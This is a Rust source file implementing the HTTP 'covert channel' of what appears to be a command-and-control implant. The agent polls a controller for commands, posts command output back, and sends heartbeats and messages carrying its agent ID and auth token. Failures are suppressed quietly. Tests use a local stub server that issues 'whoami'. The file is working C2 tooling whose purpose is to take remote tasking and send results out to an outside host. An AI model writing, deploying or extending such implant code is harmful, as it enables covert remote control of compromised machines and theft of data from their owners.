//! HTTP covert channel
//!
//! Request/response against the controller's agent API. Identity
//! (`agent_id`, `auth_token`) rides on every request, as query parameters
//! for GETs and in the JSON body for POSTs. The only variant with the full
//! capability set.

use std::time::Duration;

use async_trait::async_trait;
use serde::Deserialize;
use serde_json::json;

use sk_core::error::ChannelError;
use sk_core::types::{Command, CommandResult, TransportKind};

use crate::{Capabilities, CovertChannel};

/// Request timeout for every HTTP operation
const REQUEST_TIMEOUT: Duration = Duration::from_secs(5);

/// HTTP-based covert channel
pub struct HttpChannel {
    server_url: String,
    agent_id: String,
    auth_token: String,
    client: reqwest::Client,
}

#[derive(Deserialize)]
struct CommandsResponse {
    #[serde(default)]
    commands: Vec<Command>,
}

#[derive(Deserialize)]
struct MessageResponse {
    #[serde(default)]
    response: String,
}

impl HttpChannel {
    /// Create an HTTP channel against `server_url`.
    ///
    /// The trailing slash is stripped so endpoint paths can be appended
    /// uniformly.
    pub fn new(server_url: &str, agent_id: &str, auth_token: &str) -> Self {
        let client = reqwest::Client::builder()
            .timeout(REQUEST_TIMEOUT)
            .build()
            .unwrap_or_default();

        Self {
            server_url: server_url.trim_end_matches('/').to_string(),
            agent_id: agent_id.to_string(),
            auth_token: auth_token.to_string(),
            client,
        }
    }

    async fn try_poll(&self) -> Result<Vec<Command>, ChannelError> {
        let url = format!("{}/api/agent/commands", self.server_url);
        let response = self
            .client
            .get(&url)
            .query(&[
                ("agent_id", self.agent_id.as_str()),
                ("auth_token", self.auth_token.as_str()),
            ])
            .send()
            .await
            .map_err(to_channel_error)?;

        if !response.status().is_success() {
            return Err(ChannelError::Network(format!(
                "poll returned status {}",
                response.status()
            )));
        }

        let body: CommandsResponse = response
            .json()
            .await
            .map_err(|e| ChannelError::Malformed(e.to_string()))?;
        Ok(body.commands)
    }

    async fn try_send_output(&self, result: &CommandResult) -> Result<(), ChannelError> {
        let url = format!("{}/api/agent/output", self.server_url);
        let payload = json!({
            "agent_id": self.agent_id,
            "auth_token": self.auth_token,
            "output": result.output,
        });
        let response = self
            .client
            .post(&url)
            .json(&payload)
            .send()
            .await
            .map_err(to_channel_error)?;

        if response.status().is_success() {
            Ok(())
        } else {
            Err(ChannelError::Network(format!(
                "output returned status {}",
                response.status()
            )))
        }
    }

    async fn try_send_message(&self, message: &str) -> Result<String, ChannelError> {
        let url = format!("{}/api/agent/message", self.server_url);
        let payload = json!({
            "agent_id": self.agent_id,
            "auth_token": self.auth_token,
            "message": message,
        });
        let response = self
            .client
            .post(&url)
            .json(&payload)
            .send()
            .await
            .map_err(to_channel_error)?;

        if !response.status().is_success() {
            return Err(ChannelError::Network(format!(
                "message returned status {}",
                response.status()
            )));
        }

        let body: MessageResponse = response
            .json()
            .await
            .map_err(|e| ChannelError::Malformed(e.to_string()))?;
        Ok(body.response)
    }

    async fn try_heartbeat(&self) -> Result<(), ChannelError> {
        let url = format!("{}/api/agent/heartbeat", self.server_url);
        let payload = json!({
            "agent_id": self.agent_id,
            "auth_token": self.auth_token,
        });
        let response = self
            .client
            .post(&url)
            .json(&payload)
            .send()
            .await
            .map_err(to_channel_error)?;

        if response.status().is_success() {
            Ok(())
        } else {
            Err(ChannelError::Network(format!(
                "heartbeat returned status {}",
                response.status()
            )))
        }
    }
}

fn to_channel_error(e: reqwest::Error) -> ChannelError {
    if e.is_timeout() {
        ChannelError::Timeout
    } else {
        ChannelError::Network(e.to_string())
    }
}

#[async_trait]
impl CovertChannel for HttpChannel {
    fn kind(&self) -> TransportKind {
        TransportKind::Http
    }

    fn capabilities(&self) -> Capabilities {
        Capabilities::ALL
    }

    async fn send_message(&self, message: &str) -> String {
        match self.try_send_message(message).await {
            Ok(response) => response,
            Err(e) => {
                tracing::warn!(agent_id = %self.agent_id, "HTTP send_message failed: {}", e);
                String::new()
            }
        }
    }

    async fn poll_commands(&self) -> Vec<Command> {
        match self.try_poll().await {
            Ok(commands) => {
                if !commands.is_empty() {
                    tracing::info!(count = commands.len(), "HTTP poll retrieved commands");
                }
                commands
            }
            Err(e) => {
                tracing::warn!(agent_id = %self.agent_id, "HTTP poll failed: {}", e);
                Vec::new()
            }
        }
    }

    async fn send_output(&self, result: &CommandResult) -> bool {
        match self.try_send_output(result).await {
            Ok(()) => true,
            Err(e) => {
                tracing::warn!(agent_id = %self.agent_id, "HTTP send_output failed: {}", e);
                false
            }
        }
    }

    async fn heartbeat(&self) -> bool {
        match self.try_heartbeat().await {
            Ok(()) => true,
            Err(e) => {
                tracing::warn!(agent_id = %self.agent_id, "HTTP heartbeat failed: {}", e);
                false
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use axum::{routing::get, routing::post, Json, Router};
    use sk_core::types::AgentId;

    async fn spawn_stub_server() -> String {
        let app = Router::new()
            .route(
                "/api/agent/commands",
                get(|| async {
                    Json(serde_json::json!({
                        "commands": [{"id": "c1", "payload": "whoami"}]
                    }))
                }),
            )
            .route(
                "/api/agent/output",
                post(|| async { Json(serde_json::json!({"message": "ok"})) }),
            )
            .route(
                "/api/agent/message",
                post(|| async { Json(serde_json::json!({"response": "pong"})) }),
            )
            .route(
                "/api/agent/heartbeat",
                post(|| async { Json(serde_json::json!({"message": "ok"})) }),
            );

        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        tokio::spawn(async move {
            axum::serve(listener, app).await.unwrap();
        });
        format!("http://{}", addr)
    }

    #[tokio::test]
    async fn test_poll_and_message_roundtrip() {
        let url = spawn_stub_server().await;
        let channel = HttpChannel::new(&url, "agent_001", "token");

        let commands = channel.poll_commands().await;
        assert_eq!(commands.len(), 1);
        assert_eq!(commands[0].payload, "whoami");

        let response = channel.send_message("ping").await;
        assert_eq!(response, "pong");

        assert!(channel.heartbeat().await);

        let result = CommandResult::new(AgentId::new("agent_001"), "done");
        assert!(channel.send_output(&result).await);
    }

    #[tokio::test]
    async fn test_unreachable_endpoint_fails_closed() {
        // Nothing listens here; every operation must return its canonical
        // empty value without erroring.
        let channel = HttpChannel::new("http://127.0.0.1:1", "agent_001", "token");

        assert_eq!(channel.send_message("ping").await, "");
        assert!(channel.poll_commands().await.is_empty());
        assert!(!channel.heartbeat().await);
    }

    #[test]
    fn test_trailing_slash_stripped() {
        let channel = HttpChannel::new("http://example.com/", "a", "t");
        assert_eq!(channel.server_url, "http://example.com");
    }
}
